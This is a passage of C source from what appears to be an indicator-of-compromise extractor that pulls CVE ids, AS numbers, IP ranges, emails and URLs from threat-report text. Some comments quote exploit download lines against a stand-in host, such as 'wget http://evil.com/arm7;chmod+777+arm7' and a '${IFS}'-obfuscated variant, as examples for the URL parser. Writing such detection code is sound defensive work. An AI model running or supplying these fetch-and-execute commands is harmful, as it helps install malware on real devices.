		if ((k - a) % 3 == 2) {
			if (t[k] != ':')
				return 0;
			continue;
		}
		if (!(sc->cls[(unsigned char)t[k]] & C_HEX))
			return 0;
		digit |= sc->cls[(unsigned char)t[k]] & C_DIGIT;
		buf_addch(&sc->value, (char)(t[k] | 0x20));
	}
	if (!digit)
		return 0;
	if (other_value(sc, a))
		return 1;	/* a certificate's serial number: nothing */
	emit(sc, type, sc->value.data, a, b, IOC_PUBLIC);
	return 1;
}

/* The separator of a CVE id's parts at t (n bytes): a dash
 * (dash_len), or '_' as a rule's or a file's name writes it
 * ("CVE_2024_3094.yar"); its bytes, 0 when there is none. */
static size_t
cve_sep(const char *t, size_t n)
{
	return n >= 1 && t[0] == '_' ? 1 : dash_len(t, n);
}

/* A CVE's sequence number, k digits at num: four (with zeros before
 * as need be, CVE-2014-0160), or five to seven with no zero first (the
 * CVE ID syntax: CVE-2024-01234 is none). */
static int
cve_number(const char *num, size_t k)
{
	return k == 4 || (k > 4 && k <= 7 && num[0] != '0');
}

/* The CVE of a year's four digits and a number's k, found at t[a..b):
 * "CVE-YYYY-N...". */
static void
emit_cve(struct ioc_scanner *sc, const char *year, const char *num,
    size_t k, size_t a, size_t b)
{
	buf_reset(&sc->value);
	buf_add(&sc->value, "CVE-", 4);
	buf_add(&sc->value, year, 4);
	buf_addch(&sc->value, '-');
	buf_add(&sc->value, num, k);
	emit(sc, IOC_CVE, sc->value.data, a, b, IOC_PUBLIC);
}

/* CVE-2024-12345; "CVE 2024-12345" cut whole (cve_whole) */
static int
try_cve(struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data + a;
	size_t n = b - a, y, k, d;

	if (n < 13 || strncasecmp(t, "cve", 3) != 0 ||
	    (d = t[3] == ' ' ? 1 : cve_sep(t + 3, n - 3)) == 0)
		return 0;
	y = 3 + d;	/* the year */
	if (n < y + 4 || digits_at(t + y) != 4 ||
	    (d = cve_sep(t + y + 4, n - y - 4)) == 0)
		return 0;
	k = digits_at(t + y + 4 + d);
	if (!cve_number(t + y + 4 + d, k) || y + 4 + d + k != n)
		return 0;
	emit_cve(sc, t + y, t + n - k, k, a, b);
	return 1;
}

/* An IDS rule's "reference:cve," at t[a..b) and the CVE's number after
 * it ("reference:cve,2021-44228" in a Suricata or Snort rule): that
 * CVE, found where the number is. The number is read past the token
 * (not remembered). */
static int
rule_cve(struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data + b + 1;
	size_t k;

	if (memcmp(sc->text.data + a, "reference:cve", 13) != 0)
		return 0;
	sc->memo_outside = 1;
	if (digits_at(t) != 4 || t[4] != '-' ||
	    !cve_number(t + 5, k = digits_at(t + 5)) ||
	    (sc->cls[(unsigned char)t[5 + k]] & C_ALNUM))
		return 1;
	emit_cve(sc, t, t + 5, k, b + 1, b + 6 + k);
	return 1;
}

/* 1 when the word before t[a] (past blanks) is in capitals, three
 * letters or more: a sentence in capitals, whose "AS" is a word (a
 * country's code, "CN AS 4134", is not one). */
static int
shouted_before(const struct ioc_scanner *sc, size_t a)
{
	const char *t = sc->text.data;
	size_t k = a, upper = 0;

	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
		k--;
	for (; k > 0 && (sc->cls[(unsigned char)t[k - 1]] & C_ALNUM); k--) {
		if (t[k - 1] >= 'a' && t[k - 1] <= 'z')
			return 0;
		upper += t[k - 1] >= 'A' && t[k - 1] <= 'Z';
	}
	return upper >= 3;
}

/* Digits at t[p]: up to 10, at most 4294967295. */
static size_t
asn_digits(const struct ioc_scanner *sc, size_t p, unsigned long long *v)
{
	const char *t = sc->text.data;
	size_t d;

	*v = 0;
	for (d = p; d < sc->text.len && d - p < 10 &&
	    (sc->cls[(unsigned char)t[d]] & C_DIGIT); d++)
		*v = *v * 10 + (unsigned long long)(t[d] - '0');
	return *v > 4294967295ull ? p : d;
}

/*
 * An AS number at t[p], in plain digits or RFC 5396's asdot ("1.10" is
 * 65546): its end, p when there is none. Digits followed by more dotted
 * ones are something else: "ASN 8.8.8.8" names an address, not AS8.
 */
static size_t
asn_number(const struct ioc_scanner *sc, size_t p, unsigned long long *v)
{
	const char *t = sc->text.data;
	size_t e = asn_digits(sc, p, v), f;
	unsigned long long lo;

	if (e == p || e + 1 >= sc->text.len || t[e] != '.' ||
	    !(sc->cls[(unsigned char)t[e + 1]] & C_DIGIT))
		return e;
	f = asn_digits(sc, e + 1, &lo);
	if (f == e + 1 || *v > 65535 || lo > 65535 || (f + 1 < sc->text.len &&
	    t[f] == '.' && (sc->cls[(unsigned char)t[f + 1]] & C_DIGIT)))
		return p;
	*v = *v << 16 | lo;
	return f;
}

/* An AS number at t[p] with nothing alphanumeric after it: its end,
 * p when there is none. */
static size_t
asn_end(const struct ioc_scanner *sc, size_t p, unsigned long long *v)
{
	const char *t = sc->text.data;
	size_t e = asn_number(sc, p, v);

	if (e == p || *v == 0 || (e < sc->text.len &&
	    (sc->cls[(unsigned char)t[e]] & C_ALNUM)))
		return p;
	return e;
}

/* The token t[i..j) is "ASN" and a blank follows it, then more: try_asn
 * reads the number after the blank. */
static int
asn_blank(const struct ioc_scanner *sc, size_t i, size_t j)
{
	const char *t = sc->text.data;

	return j == i + 3 && t[i] == 'A' && t[i + 1] == 'S' &&
	    t[i + 2] == 'N' && j + 1 < sc->text.len && t[j] == ' ';
}

/*
 * "ASN 4134" whole: where try_asn reads the token t[i..j) on to, when
 * asn_blank and a number follows; 0 otherwise. What it gives then
 * depends on these bytes alone (scan keeps it in the memo as one
 * token); "AS 4134" depends on the words before (shouted_before).
 */
static size_t
asn_whole(const struct ioc_scanner *sc, size_t i, size_t j)
{
	unsigned long long v;
	size_t e;

	if (!asn_blank(sc, i, j))
		return 0;
	e = asn_end(sc, j + 1, &v);
	return e == j + 1 ? 0 : e;
}

/*
 * The numbers after an AS number's end e, each after a slash, in the
 * token that ends at j: "AS4134/4837/9808" lists three. The end of the
 * last, e when there is none.
 */
static size_t
asn_list(const struct ioc_scanner *sc, size_t e, size_t j)
{
	const char *t = sc->text.data;
	size_t k = e, f;
	unsigned long long v;

	while (k + 1 < j && t[k] == '/' && (f = asn_end(sc, k + 1, &v)) >
	    k + 1)
		k = f;
	return k;
}

/*
 * An AS number and a slash, then more, in the token t[i..j):
 * "AS4134/AS4837", "ASN:4134/CN", "AS4134/198.51.100.7". Cut at the
 * slash (returned; 0 when it is not so): the number is a token, and
 * what follows another (token() trims the slash). Numbers alone after
 * the slashes are a list, "AS4134/4837": cut after the last,
 * "AS4134/4837/CN", and not at all when the token ends with it
 * (try_asn reads it).
 */
static size_t
asn_slash(const struct ioc_scanner *sc, size_t i, size_t j)
{
	const char *t = sc->text.data;
	size_t p = i + 2, e, l;
	unsigned long long v;

	if (j - i < 5 || t[i] != 'A' || t[i + 1] != 'S')
		return 0;
	if (t[p] == 'N')
		p++;
	if (t[p] == ':')
		p++;
	if ((e = asn_number(sc, p, &v)) == p)
		return 0;
	l = asn_list(sc, e, j);
	return l + 1 < j && t[l] == '/' ? l : 0;
}

/*
 * "CVE 2024-3094", a blank after "CVE" (t[i..j), three bytes, as a
 * reporter types it): cut as one token, for try_cve to check (its end
 * returned; 0 when what follows is no year, dash and number).
 */
static size_t
cve_whole(const struct ioc_scanner *sc, size_t i, size_t j)
{
	const char *t = sc->text.data;
	size_t d, k;

	if (t[j] != ' ' || strncasecmp(t + i, "cve", 3) != 0 ||
	    digits_at(t + j + 1) != 4 ||
	    (d = cve_sep(t + j + 5, sc->text.len - j - 5)) == 0)
		return 0;
	k = j + 5 + d + digits_at(t + j + 5 + d);
	return (sc->cls[(unsigned char)t[k]] & C_ALNUM) ? 0 : k;
}

/*
 * A range written with a blank either side of its dash, an IPv4 address
 * t[i..j) and another after it: a WHOIS inetnum's "198.51.100.0 -
 * 198.51.100.255", a word processor's " – "; or with Chinese "至" or
 * "到" (to) between them, blanks or none (cjk_to). Cut as one token (its end
 * returned; 0 when it is not so), so that try_ipv4 reads it whole.
 * Asked by spaced_whole.
 */
static size_t
range_whole(const struct ioc_scanner *sc, size_t i, size_t j)
{
	const char *t = sc->text.data;
	size_t n = sc->text.len, d, c, e;
	uint32_t x, y;

	if ((t[j] != ' ' || (t[j + 1] != '-' && t[j + 1] != '~' &&
	    (unsigned char)t[j + 1] != 0xe2)) && (t[j] != ' ' ||
	    (unsigned char)t[j + 1] < 0xe5) && (unsigned char)t[j] < 0xe5)
		return 0;	/* most tokens: a compare or two (t[n]: NUL) */
	if (j - i < 7 || ((d = spaced_dash(t + j, n - j)) == 0 &&
	    (d = cjk_to(t + j, n - j)) == 0) ||
	    !(sc->cls[(unsigned char)t[j + d]] & C_DIGIT) ||
	    parse_ipv4(t + i, j - i, &x) != j - i)
		return 0;
	for (c = e = j + d; e < n && ((sc->cls[(unsigned char)t[e]] &
	    C_DIGIT) || t[e] == '.'); e++)
		;
	while (e > c && t[e - 1] == '.')
		e--;	/* a sentence's full stop */
	/* in one /8, as a registry's ranges are, or one network: two
	 * addresses far apart ("192.0.2.1 - 203.0.113.5", a flow) make no
	 * range */
	return parse_ipv4(t + c, e - c, &y) == e - c && (x >> 24 == y >> 24 ||
	    (x <= y && one_network4(x, y))) &&
	    !(sc->cls[(unsigned char)t[e]] & C_ALNUM) ? e : 0;
}

/*
 * An IPv4 address t[i..j) and its mask after a blank, as routers' and
 * firewalls' configurations write a network: "ip route 10.0.0.0
 * 255.0.0.0 192.0.2.1", "access-list 101 deny ip 203.0.113.0 0.0.0.255
 * any", "inet 192.168.1.5 netmask 255.255.255.0" (spaced_mask). Cut as
 * one token (its end returned; 0 when it is not so), so that try_ipv4
 * reads it whole. Asked by spaced_whole.
 */
static size_t
mask_whole(const struct ioc_scanner *sc, size_t i, size_t j)
{
	const char *t = sc->text.data;
	size_t n = sc->text.len, c, e;
	uint32_t x;

	c = j + 1;
	if (t[c] == ' ' || t[c] == '\t' || (t[c] | 0x20) == 'm' ||
	    (t[c] | 0x20) == 'n')
		c = mask_start(t, j, n);	/* (most tokens: no call) */
	if ((t[c] != '2' && t[c] != '0') || j - i < 7 ||
	    parse_ipv4(t + i, j - i, &x) != j - i)
		return 0;
	for (e = c; (sc->cls[(unsigned char)t[e]] & C_DIGIT) || t[e] == '.';
	    e++)
		;
	while (e > c && t[e - 1] == '.')
		e--;	/* a sentence's full stop */
	return !(sc->cls[(unsigned char)t[e]] & C_ALNUM) && e > c &&
	    spaced_mask(t, j, e) >= 0 ? e : 0;
}

/* A range or a network with its mask cut as one token (range_whole,
 * mask_whole) where the token t[i..j) ends in a digit before a blank;
 * most tokens are answered here, by the bytes around the blank. */
static inline __attribute__((always_inline)) size_t
spaced_whole(const struct ioc_scanner *sc, size_t i, size_t j)
{
	const char *t = sc->text.data;
	unsigned char c;

	if (!(sc->cls[(unsigned char)t[j - 1]] & C_DIGIT))
		return 0;
	if ((unsigned char)t[j] >= 0xe5)
		return range_whole(sc, i, j);	/* "至" */
	if (t[j] != ' ' && t[j] != '\t')
		return 0;	/* (t[n] is a NUL: t[j + 1] is read after) */
	c = (unsigned char)t[j + 1];
	if (c == '-' || c == '~' || c >= 0xe2)
		return range_whole(sc, i, j);
	if (c == ' ' || c == '\t' || (c | 0x20) == 'm' ||
	    (c | 0x20) == 'n' || c == '2' || c == '0')
		return mask_whole(sc, i, j);
	return 0;
}

/* AS4134, ASN4134, and "ASN 4134" (then *b moves past the number). */
static int
try_asn(struct ioc_scanner *sc, size_t a, size_t *b)
{
	const char *t = sc->text.data;
	size_t p = a + 2, e, k, l;
	unsigned long long v = 0;
	enum ioc_class class;
	char num[20], *q;

	if (*b - a < 2 || t[a] != 'A' || t[a + 1] != 'S')
		return 0;
	if (p < *b && t[p] == 'N')
		p++;
	if (p == *b)
		sc->memo_outside = 1;	/* what follows decides */
	if (p == *b && asn_blank(sc, a, *b))
		p++;	/* "ASN 4134" */
	else if (p == *b && p - a == 2 && p + 4 < sc->text.len &&
	    t[p] == ' ' && (sc->cls[(unsigned char)t[p + 1]] &
	    sc->cls[(unsigned char)t[p + 2]] &
	    sc->cls[(unsigned char)t[p + 3]] & C_DIGIT) &&
	    !shouted_before(sc, a))
		p++;	/* "AS 4134"; not "AS 4 hosts", "SUCH AS 200 HOSTS" */
	else if (p == *b)
		return 0;
	else if (t[p] == ':' && ++p == *b && p - a == 4 && p + 1 <
	    sc->text.len && t[p] == ' ' &&
	    (sc->cls[(unsigned char)t[p + 1]] & C_DIGIT)) {
		sc->memo_outside = 1;
		p++;	/* "ASN: 4134", a report's key; "ASN:4134", a log's */
	}
	if ((e = asn_end(sc, p, &v)) == p)
		return 0;
	for (k = l = asn_list(sc, e, *b); k < *b && (t[k] == ':' ||
	    (sc->cls[(unsigned char)t[k]] & C_RTRIM)); k++)
		;	/* a sentence's end, "AS4134.", a key's, Markdown's
			 * "_AS4134_" (what token() trims) */
	if (k < *b)	/* more after the digits in this token */
		return 0;
	for (p = a;;) {	/* the number, then those of a list after it */
		class = class_asn(v);
		buf_reset(&sc->value);
		buf_add(&sc->value, "AS", 2);
		for (q = num + sizeof(num); v || q == num + sizeof(num);
		    v /= 10)
			*--q = (char)('0' + v % 10);
		buf_add(&sc->value, q, (size_t)(num + sizeof(num) - q));
		emit(sc, IOC_ASN, sc->value.data, p, e, class);
		if (e > *b)
			*b = e;
		if (e >= l)
			break;
		p = e + 1;	/* past the slash */
		e = asn_end(sc, p, &v);
	}
	return 1;
}

/* domain_check, with the answer remembered: 1 for a host; 0 for none,
 * sc->name_said set when it is one only where the text says so. */
static int
domain_ok(struct ioc_scanner *sc, const char *s, size_t n, int context)
{
	uint64_t h;
	struct name_entry *e;
	int ok;

	if (n > UINT16_MAX) {	/* no host name: asked, not kept */
		ok = domain_check(sc, s, n, context);
		sc->name_said = ok == 2;
		return ok == 1;
	}
	h = digest_table_hash(s, n, context != 0);
	e = cache_slot(sc->names, s, n, context != 0, h);
	if (e->len) {
		sc->name_said = e->state == NAME_SAID;
		if (e->state == NAME_NO || e->state == NAME_SAID)
			return 0;
		buf_reset(&sc->value);
		if (e->state == NAME_OTHER)
			buf_addstr(&sc->value, e->name);
		else
			buf_add(&sc->value, s, n);	/* the same bytes */
		return 1;
	}
	ok = domain_check(sc, s, n, context);
	if (sc->names->n >= sc->names->size / 2) {
		cache_make_room(sc->names);
		e = cache_slot(sc->names, s, n, context != 0, h);
	}
	e->hash = h;
	e->len = (uint16_t)n;
	e->flag = (uint8_t)(context != 0);
	if (n <= NAME_INLINE)
		memcpy(e->key, s, n);
	else
		e->raw = memcpy(xmalloc(n), s, n);
	e->state = !ok ? NAME_NO : ok == 2 ? NAME_SAID : sc->value.len == n &&
	    memcmp(sc->value.data, s, n) == 0 ? NAME_SAME : NAME_OTHER;
	if (e->state == NAME_OTHER)
		e->name = xstrdup(sc->value.data);
	sc->names->used[sc->names->n++] = (uint16_t)(e - sc->names->slot);
	sc->name_said = ok == 2;
	return ok == 1;
}

/*
 * Whether local@domain (domain lowercase) is a message's id, not an
 * address, quoted in prose or a log ("your message <...> of Monday",
 * a bounce's text): at a host only ids are at, Gmail's mail.gmail.com,
 * Exchange Online's *.prod.outlook.com, Amazon SES's amazonses.com
 * (its bounces' return paths too); or in the form Mutt gives them, the
 * time and a counter ("20261124083011.GA12345@host").
 */
static int
message_id(const char *local, size_t n, const char *domain, size_t dn)
{
	static const char *const tails[] = {
		".prod.outlook.com", ".amazonses.com", NULL,
	};
	size_t i, k;

	if ((dn == 14 && memcmp(domain, "mail.gmail.com", 14) == 0) ||
	    (dn == 13 && memcmp(domain, "amazonses.com", 13) == 0))
		return 1;
	for (i = 0; tails[i]; i++)
		if (dn > (k = strlen(tails[i])) &&
		    memcmp(domain + dn - k, tails[i], k) == 0)
			return 1;
	if (n < 18 || local[14] != '.' || local[15] != 'G' ||
	    local[16] < 'A' || local[16] > 'Z')
		return 0;
	for (i = 0; i < n; i++)
		if (i != 14 && i != 15 && i != 16 &&
		    !(local[i] >= '0' && local[i] <= '9'))
			return 0;
	return 1;
}

/* local@domain in t[a..b): the local part ends at t[l], the domain
 * starts at t[r] (after '@', or after a mailto: link's "%40") */
static int
try_email(struct ioc_scanner *sc, size_t a, size_t l, size_t r, size_t b)
{
	const char *t = sc->text.data;
	size_t k, d;

	if (l == a || l - a > 64 || r >= b)
		return 0;
	for (k = a; k < l; k++)
		if (!(sc->cls[(unsigned char)t[k]] & C_ALNUM) &&
		    !strchr("._%+-=", t[k]))
			return 0;
	/* sshd's "admin@2001:db8::1": a login at an IPv6 address, which
	 * is the indicator (as "root@192.0.2.1" below) */
	if ((sc->cls[(unsigned char)t[r]] & C_HEX) &&
	    memchr(t + r, ':', b - r) && try_ipv6(sc, r, b))
		return 1;
	/* the domain ends where a mailto: link's query, a login's port or
	 * path, or a leaked list's ":password" starts */
	for (d = r; d < b && t[d] != '?' && t[d] != '#' && t[d] != ':' &&
	    t[d] != '/'; d++)
		;
	if (t[a] == '.' || t[l - 1] == '.' || d == r ||
	    memmem(t + a, l - a, "..", 2))	/* RFC 5322's dot-atom */
		return 0;
	if (d < b && t[d] == ':' && memchr(t + d, '/', b - d)) {
		/* scp's and git's "user@host:path": a login, not a
		 * mailbox; the host is the indicator */
		if (domain_ok(sc, t + r, d - r, 1))
			emit(sc, IOC_DOMAIN, sc->value.data, r, d,
			    IOC_PUBLIC);
		else
			try_ipv4(sc, r, d);
		return 1;
	}
	if (!domain_ok(sc, t + r, d - r, 1))	/* "root@192.0.2.1", a
						 * login: the host */
		return (sc->cls[(unsigned char)t[r]] & C_DIGIT) &&
		    try_ipv4(sc, r, d);
	if (message_id(t + a, l - a, sc->value.data, sc->value.len))
		return 1;
	buf_reset(&sc->url);
	buf_add(&sc->url, t + a, l - a);
	buf_addch(&sc->url, '@');
	buf_addstr(&sc->url, sc->value.data);
	emit(sc, IOC_EMAIL, sc->url.data, a, d,
	    class_dns(sc->value.data, sc->value.len));	/* its domain's */
	return 1;
}

/*
 * Punctuation and spaces beyond ASCII that end an indicator as a blank
 * does: their bytes at t[i], 0 for none. Word processors and HTML put
 * them right against a host: quotes ("“evil.com”", "«evil.com»"),
 * a no-break space ("&nbsp;"), "evil.com…", a bullet, bidi marks
 * (U+200E, U+200F, U+202A..202E, U+2066..2069), C1 controls (cp1252's
 * quotes read as Latin-1); Chinese text its "：" or "，" (U+3000..303F,
 * U+FF00..FF65). Not U+200B..200D (IDNA drops or keeps them in a
 * name), the hyphens U+2010 and U+2011 (a name's: see domain_check),
 * the dashes (see wide_dash) nor U+00B7 (Catalan's "l·l").
 */
static size_t
uni_sep(const char *t, size_t n, size_t i)
{
	const unsigned char *u = (const unsigned char *)t + i;

	if (u[0] == 0xc2)
		return i + 2 <= n && (u[1] <= 0xa1 || u[1] == 0xab ||
		    u[1] == 0xbb || u[1] == 0xbf) ? 2 : 0;
	if (i + 3 > n)
		return 0;
	if (u[0] == 0xe2)
		return (u[1] == 0x80 && (u[2] <= 0x8a || u[2] == 0x8e ||
		    u[2] == 0x8f || u[2] >= 0x96)) || (u[1] == 0x81 &&
		    (u[2] <= 0x9f || (u[2] >= 0xa6 && u[2] <= 0xa9))) ? 3 : 0;
	if (u[0] == 0xe3 && u[1] == 0x80)
		return 3;
	if (u[0] == 0xef && (u[1] == 0xbc || (u[1] == 0xbd && u[2] <= 0xa5)))
		return 3;
	return 0;
}

/* A dash that is no hyphen at t[i] (U+2012..2015, U+2212): its bytes, 0
 * for none. It ends a name ("evil.com—a site", "report–evil.com"),
 * but not an address range or a CVE id (see dash_token). */
static size_t
wide_dash(const char *t, size_t n, size_t i)
{
	const unsigned char *u = (const unsigned char *)t + i;

	return i + 3 <= n && u[0] == 0xe2 && ((u[1] == 0x80 &&
	    u[2] >= 0x92 && u[2] <= 0x95) || (u[1] == 0x88 &&
	    u[2] == 0x92)) ? 3 : 0;
}

/* Whether a token t[i..j) goes on past a wide dash at t[j]: an IPv4
 * address's range ("192.0.2.1–192.0.2.9"), a CVE id
 * ("CVE–2024–3094"). */
static int
dash_token(const char *t, size_t i, size_t j)
{
	size_t k, digits = 0;

	if (j - i >= 3 && strncasecmp(t + i, "cve", 3) == 0) {
		k = j - i == 3 ? 0 : dash_len(t + i + 3, j - i - 3);
		return j - i == 3 || (k != 0 && j - i == 3 + k + 4 &&
		    digits_at(t + i + 3 + k) == 4);
	}
	for (k = i; k < j; k++) {
		if (t[k] >= '0' && t[k] <= '9')
			digits++;
		else if (t[k] != '.')
			return 0;
	}
	return digits > 0 && t[j - 1] != '.';
}

/* A CJK character (kana, ideograph, hangul) at t[i]: its length in
 * bytes, 0 if none. */
static size_t
cjk_char(const char *t, size_t n, size_t i)
{
	const unsigned char *u = (const unsigned char *)t + i;
	uint32_t cp;

	if (i + 3 > n || (u[1] & 0xc0) != 0x80 || (u[2] & 0xc0) != 0x80)
		return 0;
	if (u[0] >= 0xe3 && u[0] <= 0xef) {
		cp = (uint32_t)(u[0] & 0x0f) << 12 |
		    (uint32_t)(u[1] & 0x3f) << 6 | (u[2] & 0x3f);
		return (cp >= 0x3040 && cp <= 0x30ff) ||
		    (cp >= 0x3400 && cp <= 0x9fff) ||
		    (cp >= 0xac00 && cp <= 0xd7a3) ||
		    (cp >= 0xf900 && cp <= 0xfaff) ? 3 : 0;
	}
	if (u[0] == 0xf0 && u[1] >= 0xa0 && i + 4 <= n &&
	    (u[3] & 0xc0) == 0x80)
		return 4;	/* U+20000..3FFFF: planes 2 and 3 */
	return 0;
}

static int
url_char(struct ioc_scanner *sc, size_t i)
{
	unsigned char c = (unsigned char)sc->text.data[i];

	return !(sc->cls[c] & C_NOURL) && (c < 0xc2 ||
	    !uni_sep(sc->text.data, sc->text.len, i));
}

/* The bytes of the scheme at t (of n) and its "://": "http://",
 * "https://", "ftp://", and "ttp://", "ttps://", which defang a link by
 * its first letter's going (try_url writes the 'h' back); 0 when there
 * is none. */
static size_t
scheme_len(const char *t, size_t n)
{
	size_t k;

	if (n >= 6 && (t[0] | 0x20) == 'h' && (t[1] | 0x20) == 't' &&
	    (t[2] | 0x20) == 't' && (t[3] | 0x20) == 'p')
		k = n >= 8 && (t[4] | 0x20) == 's' ? 5 : 4;
	else if (n >= 6 && (t[0] | 0x20) == 'f' && (t[1] | 0x20) == 't' &&
	    (t[2] | 0x20) == 'p')
		k = 3;
	else if (n >= 7 && (t[0] | 0x20) == 't' && (t[1] | 0x20) == 't' &&
	    (t[2] | 0x20) == 'p')
		k = n >= 8 && (t[3] | 0x20) == 's' ? 4 : 3;
	else
		return 0;
	return k + 3 <= n && t[k] == ':' && t[k + 1] == '/' &&
	    t[k + 2] == '/' ? k + 3 : 0;
}

/* An encoded blank at t[k]: '+' (1) or "%20" (3); 0 when there is
 * none. t is NUL-terminated. */
static size_t
encoded_blank(const char *t, size_t k)
{
	return t[k] == '+' ? 1 : t[k] == '%' && t[k + 1] == '2' &&
	    t[k + 2] == '0' ? 3 : 0;
}

/* Whether a shell's command follows the ';' at t[e] in a URL's path,
 * as an exploit's download line writes it in a request it encodes:
 * a path run, ";./arm7", ";/tmp/x", or a word and an encoded blank,
 * ";chmod%20777", ";chmod+777", an encoded blank first too, ";+chmod+"
 * (a path's parameter is a word and '=', "/a;jsessionid=1"). t is
 * NUL-terminated. */
static int
shell_after(const struct ioc_scanner *sc, size_t i, size_t e)
{
	const char *t = sc->text.data;
	size_t w, k;

	if (memchr(t + i, '?', e - i) != NULL)
		return 0;	/* a query's own */
	w = e + 1 + encoded_blank(t, e + 1);	/* the command */
	if (t[w] == '/' || (t[w] == '.' && t[w + 1] == '/'))
		return 1;
	for (k = w; sc->cls[(unsigned char)t[k]] & C_ALNUM; k++)
		;
	return k > w && (t[k] == '$' || encoded_blank(t, k) != 0);
}

/*
 * Where the path of the URL t[i..e) gives way to a command's options,
 * as an exploit's encoded download line writes them after it: an
 * encoded blank ('+' or "%20"), '-' and one or two letters, then
 * another blank, a '-' or the end: "wget+http://evil.com/Mozi.m+-O+
 * /tmp/x" ends before "+-O+"; "/c++-tutorial" and "/a+-+b" are a
 * path's. e when there is none (a query's '+' is a blank of its own).
 */
static size_t
shell_options(const struct ioc_scanner *sc, size_t i, size_t e)
{
	const char *t = sc->text.data, *q = memchr(t + i, '?', e - i), *p;
	size_t end = q ? (size_t)(q - t) : e, k, n, b;

	for (p = memchr(t + i, '-', end - i); p != NULL;
	    p = memchr(p + 1, '-', (size_t)(t + end - p - 1))) {
		k = (size_t)(p - t);
		if (k > i && t[k - 1] == '+')
			b = k - 1;
		else if (k >= i + 3 && encoded_blank(t, k - 3) == 3)
			b = k - 3;
		else
			continue;
		for (n = k + 1; n < end && ascii_letter(t[n]); n++)
			;
		if (n - k - 1 >= 1 && n - k - 1 <= 2 && (n == end ||
		    t[n] == '-' || encoded_blank(t, n) != 0))
			return b;
	}
	return e;
}

/*
 * Whether t[e], a ',' or a ';', ends the URL at t[i]: in a CSV row's
 * field, right after the same separator ("1,http://evil.com/x,CN"), or
 * before another URL ("http://a.com/x,http://b.com/y"), or a shell's
 * command ("wget http://evil.com/arm7;chmod+777+arm7", shell_after). A
 * path's or a query's own stays ("?ids=1,2", "/a;jsessionid=1").
 */
static int
url_sep(const struct ioc_scanner *sc, size_t i, size_t e)
{
	const char *t = sc->text.data;

	return (i > 0 && t[i - 1] == t[e]) ||
	    scheme_len(t + e + 1, sc->text.len - e - 1) != 0 ||
	    (t[e] == ';' && shell_after(sc, i, e));
}

/* The first ',' or ';' in t[i..e), the URL at t[i], that ends it
 * (url_sep), or e. memchr's, not a test in url_end's loop for each of
 * a URL's bytes (+1.7% of ioc extract's instructions). */
static size_t
url_sep_end(const struct ioc_scanner *sc, size_t i, size_t e)
{
	const char *t = sc->text.data, *c, *s, *p;

	c = memchr(t + i, ',', e - i);
	s = memchr(t + i, ';', e - i);
	while (c != NULL || s != NULL) {
		p = s == NULL || (c != NULL && c < s) ? c : s;
		if (url_sep(sc, i, (size_t)(p - t)))
			return (size_t)(p - t);
		if (p == c)
			c = memchr(p + 1, ',', (size_t)(t + e - p - 1));
		else
			s = memchr(p + 1, ';', (size_t)(t + e - p - 1));
	}
	return e;
}

/* Where a URL starting at t[i] ends: URL characters, less trailing
 * punctuation and brackets it does not open. */
static size_t
url_end(struct ioc_scanner *sc, size_t i)
{
	const char *t = sc->text.data, *p;
	size_t e = i, k, open;

	/* "访问http://evil.com/login并输入": Chinese right after a letter
	 * or digit ends the URL ("/wiki/中国" is a path) */
	while (e < sc->text.len && url_char(sc, e) &&
	    ((unsigned char)t[e] < 0xe3 || e == i ||
	    !ascii_alnum((unsigned char)t[e - 1]) ||
	    !cjk_char(t, sc->text.len, e)))
		e++;
	e = shell_options(sc, i, url_sep_end(sc, i, e));
	/* a shell's variable: "wget${IFS}http://evil.com/mips${IFS}-O",
	 * where a command line is written with no blank, the URL glued
	 * to what is before it */
	for (p = i > 0 && (t[i - 1] == '}' || (sc->cls[(unsigned
	    char)t[i - 1]] & C_ALNUM)) ? memchr(t + i, '$', e - i) : NULL;
	    p != NULL; p = memchr(p + 1, '$', e - (size_t)(p + 1 - t)))
		if (p[1] == '{' || strncmp(p + 1, "IFS", 3) == 0) {
			e = (size_t)(p - t);
			break;
		}
	/* a Markdown link's "](": "[http://a/x](http://a/x)" is two */
	for (p = memchr(t + i, ']', e - i); p != NULL && (size_t)(p - t) + 1 <
	    e; p = memchr(p + 1, ']', e - (size_t)(p + 1 - t)))
		if (p[1] == '(') {
			e = (size_t)(p - t);
			break;
		}
	for (;;) {
		char close, opener_c;
		size_t closes;

		while (e > i && (sc->cls[(unsigned char)t[e - 1]] & C_URLTRIM))
			e--;
		if (e == i || (t[e - 1] != ')' && t[e - 1] != ']'))
			return e;
		close = t[e - 1];
		opener_c = close == ')' ? '(' : '[';
		for (open = 0, closes = 0, k = i; k < e - 1; k++) {
			open += t[k] == opener_c;
			closes += t[k] == close;
		}
		if (open > closes)	/* the bracket closes one of the URL's */
			return e;
		e--;
	}
}

/* The value of the hex digit c (either case), -1 when it is none. */
static int
hex_digit(int c)
{
	return c >= '0' && c <= '9' ? c - '0' : (c | 0x20) >= 'a' &&
	    (c | 0x20) <= 'f' ? (c | 0x20) - 'a' + 10 : -1;
}

/* The value of query parameter name in q[0..n) ("?a=1&url=..."), still
 * encoded, or NULL; *len its length. */
static const char *
query_param(const char *q, size_t n, const char *name, size_t *len)
{
	size_t k = strlen(name), i = 0, j;

	while (i < n && q[i] != '?')
		i++;
	while (i < n && q[i] != '#') {
		i++;	/* past '?' or '&' */
		for (j = i; j < n && q[j] != '&' && q[j] != '#'; j++)
			;
		if (j - i > k && q[i + k] == '=' &&
		    strncasecmp(q + i, name, k) == 0) {
			*len = j - i - k - 1;
			return q + i + k + 1;
		}
		i = j;
	}
	return NULL;
}

/*
 * A link inside another's path or query, as a redirect or an archive
 * names it: "https://evil.com/go?next=https://phish.top/x", "...?u=
 * https%3A%2F%2Fphish.top" (*encoded set: a parameter's value, *len to
 * its end), "https://web.archive.org/web/2024/https://phish.top/" (*len
 * to the URL's end). Its start in rest[0..n), or NULL.
 */
static const char *
nested_link(const char *rest, size_t n, size_t *len, int *encoded)
{
	size_t k, j;

	for (k = 1; k + 8 <= n; k++) {
		if ((rest[k] | 0x20) != 'h' || (rest[k - 1] != '=' &&
		    rest[k - 1] != '/') || strncasecmp(rest + k, "http", 4))
			continue;
		j = k + 4 + ((rest[k + 4] | 0x20) == 's');
		if (j + 3 <= n && memcmp(rest + j, "://", 3) == 0)
			*encoded = 0;
		else if (j + 9 <= n &&
		    strncasecmp(rest + j, "%3a%2f%2f", 9) == 0)
			*encoded = 1;
		else
			continue;
		for (j = k; j < n && (!*encoded || (rest[j] != '&' &&
		    rest[j] != '#')); j++)
			;
